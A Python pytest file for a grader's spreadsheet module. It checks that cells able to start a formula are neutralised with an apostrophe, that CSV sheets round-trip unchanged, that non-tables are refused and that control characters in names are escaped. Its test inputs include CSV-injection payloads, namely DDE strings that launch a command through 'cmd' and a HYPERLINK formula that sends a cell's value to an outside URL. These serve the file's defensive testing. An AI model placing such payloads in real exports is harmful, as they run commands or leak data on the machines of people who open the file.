"""No cell is taken for a formula, and a sheet that is read and written again is the same."""

from __future__ import annotations

import csv

import pytest

from grader.errors import InputError
from grader.gradebook.spreadsheet import Sheet, escape_name, escape_text, neutralise


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://example.org/?"&A1, "more")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tplain",
        "  =1+1",
        '"=1+1"',
        ' " =1+1',
        "\u200b=1+1",
        "\ufeff=1+1",
        "\uff1d1+1",
        "\uff20SUM(1)",
        "\0=1",
        "-minus",
        "=",
    ],
)
def test_what_would_start_a_formula_gets_an_apostrophe(formula: str) -> None:
    assert neutralise(formula).startswith("'")
    assert neutralise(formula).replace("'", "") == formula.replace("'", "")
    assert neutralise(neutralise(formula)) == neutralise(formula)


@pytest.mark.parametrize("separator", [";", "\t", "\n"])
def test_a_formula_after_another_separator_gets_one_too(separator: str) -> None:
    assert neutralise(f'Kim{separator} "=1+1') == f"Kim{separator}' \"=1+1"


def test_a_text_of_line_feeds_takes_no_longer_than_another() -> None:
    text = "\n" * 10**6  # in the square of its length: hours
    assert neutralise(f"a{text}") == f"a{text}"
    assert neutralise(f"a{text}=1") == f"a{text}'=1"


@pytest.mark.parametrize(
    "cell", ["", "7", "-7", "+7.5", "-7,5", "50%", "-", "--", "김민수", "a = b", "1, -2", "Kim-Lee", "'=1"]
)
def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
    assert neutralise(cell) == cell


@pytest.mark.parametrize(
    "text",
    [
        'ID,Name\n1,"Kim, Minsu"\n',
        "\ufeffID;Name\r\n1;Kim\r\n",
        "ID\tName\n1\t김\n",
        'ID,Text\n1,"two\r\nlines and ""quotes"""\n',
        "ID,Name,Grade\n1;2;3;4,Kim,\n",
    ],
)
def test_a_sheet_comes_back_as_it_was(text: str) -> None:
    assert Sheet.read(text).text() == text


def test_short_rows_are_filled_up_and_empty_lines_left_out() -> None:
    assert Sheet.read("a,b,c\n\n,,\n1\n").rows == [["a", "b", "c"], ["1", "", ""]]


def test_a_long_text_is_read_and_the_reader_s_limit_is_as_before() -> None:
    before = csv.field_size_limit()
    assert Sheet.read(f"a,b\n1,{'x' * 200_000}\n").column(1) == ["x" * 200_000]
    assert csv.field_size_limit() == before


@pytest.mark.parametrize("text", ["", "\ufeff", "\n", "no table", "a,b\n", "PK\x03\x04"])
def test_what_is_no_table_is_refused(text: str) -> None:
    with pytest.raises(InputError, match="download it again, and give it unchanged"):
        Sheet.read(text)


CONTROLS = [*range(0x20), *range(0x7F, 0xA0), 0x061C, 0x200E, 0x200F, *range(0x2028, 0x202F), *range(0x2066, 0x206A)]


@pytest.mark.parametrize("code", CONTROLS, ids="U+{:04X}".format)
def test_a_control_character_in_a_name_is_made_visible(code: int) -> None:
    for name in (f"Kim{chr(code)}Lee", f"{chr(code)}=1+1"):
        assert escape_name(name).isprintable()
        assert escape_name(escape_name(name)) == escape_name(name)
    assert escape_name(f"Kim{chr(code)}Lee") != "KimLee"


def test_a_text_keeps_its_lines() -> None:
    assert escape_text("one\n\ttwo\x1b[2J\u202e") == "one\n\ttwo␛[2J<U+202E>"
    assert escape_name("김민수 José 👩\u200d🎓") == "김민수 José 👩\u200d🎓"
